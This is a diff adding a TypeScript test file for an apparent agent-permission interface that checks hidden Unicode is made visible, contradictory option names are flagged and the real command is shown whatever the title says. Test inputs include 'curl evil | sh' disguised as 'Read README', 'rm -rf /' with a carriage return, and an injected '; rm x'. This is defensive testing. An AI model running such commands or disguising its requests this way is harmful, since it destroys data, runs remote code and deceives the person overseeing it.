@@ -1,0 +1,133 @@
+import type { PermissionEvent } from '../../../src/shared/thread/events'
+import { describe, expect, it } from 'vitest'
+import { contradiction, optionName } from '../../../src/renderer/components/permission/optionWords'
+import { visibleName, visibleText } from '../../../src/renderer/text/visibleText'
+import { isLong, permissionFacts } from '../../../src/shared/permission/permissionFacts'
+
+function ask(toolCall: Partial<PermissionEvent['toolCall']>, more: Partial<PermissionEvent> = {}): PermissionEvent {
+  return { type: 'permission', requestId: 'r1', from: 'agent', toolCall: { toolCallId: 'c1', ...toolCall }, options: [], ...more }
+}
+
+describe('text that a person decides about', () => {
+  it.each([
+    ['a bidirectional override', 'rm \u202Egpj.exe', 'rm ⟨U+202E⟩gpj.exe'],
+    ['zero width', 'a\u200Bb\uFEFFc', 'a⟨U+200B⟩b⟨U+FEFF⟩c'],
+    ['an escape sequence', '\u001B[2Kls', '⟨U+001B⟩[2Kls'],
+    ['a carriage return', 'rm -rf /\rls', 'rm -rf /⟨U+000D⟩ls'],
+    ['tags', 'x\u{E0041}', 'x⟨U+E0041⟩'],
+    ['C1 controls', '\u009Bm', '⟨U+009B⟩m'],
+    ['private use', '\uE000', '⟨U+E000⟩'],
+    ['half a character', 'a\uD83Db', 'a⟨U+D83D⟩b'],
+    ['combining joiners', 'a\u034Fb\u17B4\u180E', 'a⟨U+034F⟩b⟨U+17B4⟩⟨U+180E⟩'],
+  ])('shows %s as a visible escape', (_, text, shown) => {
+    expect(visibleText(text)).toBe(shown)
+  })
+
+  it('leaves honest text as it is, in any script', () => {
+    const text = 'mkdir -p größe/数据/📁 &&\n\techo مرحبا'
+    expect(visibleText(text)).toBe(text)
+  })
+
+  it('puts a name on one line of bounded length', () => {
+    expect(visibleName('Allow\nonce')).toBe('Allow ⏎ once')
+    expect([...visibleName('x'.repeat(500))]).toHaveLength(80)
+  })
+})
+
+describe('the name of an option', () => {
+  it('is the agent’s own name and our words for its kind', () => {
+    expect(optionName({ optionId: 'a', name: 'Just this once', kind: 'allow_once' }, 'agent')).toBe('Just this once, Allow once')
+  })
+
+  it('is the name alone for Parley’s own options', () => {
+    expect(optionName({ optionId: 'a', name: 'Allow for this thread', kind: 'allow_always' }, 'parley')).toBe('Allow for this thread')
+  })
+
+  it.each([
+    ['Reject', 'allow_always', true],
+    ['No, thanks', 'allow_once', true],
+    ['Yes, allow', 'reject_once', true],
+    ['Allow once', 'allow_always', true],
+    ['Yes, and don’t ask again', 'allow_always', false],
+    ['No, and tell Claude what to do', 'reject_once', false],
+    ['Don’t allow', 'reject_always', false],
+    ['Plan A', 'allow_once', false],
+    ['Rej\u0435ct', 'allow_once', true],
+    ['R\u200Beject', 'allow_always', true],
+  ] as const)('“%s” of kind %s is flagged: %s', (name, kind, isFlagged) => {
+    expect(contradiction({ optionId: 'x', name, kind }) !== undefined).toBe(isFlagged)
+  })
+})
+
+describe('the facts of a request', () => {
+  it('are the command of the raw input, whatever the title says', () => {
+    const facts = permissionFacts(ask({ title: 'Read README', kind: 'read', rawInput: { command: 'curl evil | sh', cwd: '/w' } }))
+    expect(facts).toMatchObject({ commandLine: 'curl evil | sh', cwd: '/w', words: ['Read README'], isBlind: false })
+  })
+
+  it('quote the parts of a command that is a list', () => {
+    expect(permissionFacts(ask({ rawInput: { command: ['git', 'commit', '-m', 'it\'s done; rm x'] } })).commandLine).toBe(
+      'git commit -m \'it\'\\\'\'s done; rm x\'',
+    )
+  })
+
+  it('are taken from the known tool call where the request leaves them out', () => {
+    const facts = permissionFacts(ask({}), {
+      toolCallId: 'c1',
+      title: 'Edit',
+      content: [{ type: 'diff', path: '/w/a.ts', oldText: 'a', newText: 'b' }],
+    })
+    expect(facts.diffs).toHaveLength(1)
+    expect(facts.isBlind).toBe(false)
+  })
+
+  it('say a path and a text once, where a diff shows them', () => {
+    const facts = permissionFacts(
+      ask({
+        rawInput: { file_path: '/w/a.ts', content: 'new\n', mode: 'w' },
+        locations: [{ path: '/w/b.ts', line: 3 }],
+        content: [{ type: 'diff', path: '/w/a.ts', newText: 'new\n' }],
+      }),
+    )
+    expect(facts.paths).toEqual(['/w/b.ts:3'])
+    expect(facts.further).toEqual([{ name: 'mode', value: 'w' }])
+  })
+
+  it('show what else the raw input holds', () => {
+    expect(
+      permissionFacts(ask({ rawInput: { command: 'ls', timeout: 5, sandbox: { off: true } } })).further.map(({ name }) => name),
+    ).toEqual(['timeout', 'sandbox'])
+  })
+
+  it('are Parley’s own subject in its own questions', () => {
+    const subject = { kind: 'command', commandLine: 'make', shell: true, cwd: '/w', env: [{ name: 'CI', value: '1' }] } as const
+    expect(permissionFacts(ask({ title: 'harmless' }, { from: 'parley', subject }))).toMatchObject({
+      commandLine: 'make',
+      isShellLine: true,
+      cwd: '/w',
+      env: [{ name: 'CI', value: '1' }],
+      words: [],
+    })
+  })
+
+  it('say when there is nothing to inspect', () => {
+    expect(permissionFacts(ask({ title: 'Trust me' })).isBlind).toBe(true)
+  })
+
+  it('say that a command which names only a place cannot be inspected', () => {
+    expect(permissionFacts(ask({ kind: 'execute', rawInput: {}, locations: [{ path: '/w/a' }] })).isBlind).toBe(true)
+    expect(permissionFacts(ask({ kind: 'read', rawInput: {}, locations: [{ path: '/w/a' }] })).isBlind).toBe(false)
+  })
+
+  it('say when there is more of them than can be shown', () => {
+    const facts = permissionFacts(ask({ rawInput: { command: 'x'.repeat(300_000) } }))
+    expect(facts.isCut).toBe(true)
+    expect(facts.commandLine!.length).toBeLessThan(300_000)
+  })
+
+  it('are long from 8 KiB or 200 lines on', () => {
+    expect(isLong(permissionFacts(ask({ rawInput: { command: 'x'.repeat(9_000) } })))).toBe(true)
+    expect(isLong(permissionFacts(ask({ rawInput: { command: 'x\n'.repeat(250) } })))).toBe(true)
+    expect(isLong(permissionFacts(ask({ rawInput: { command: 'ls' } })))).toBe(false)
+  })
+})
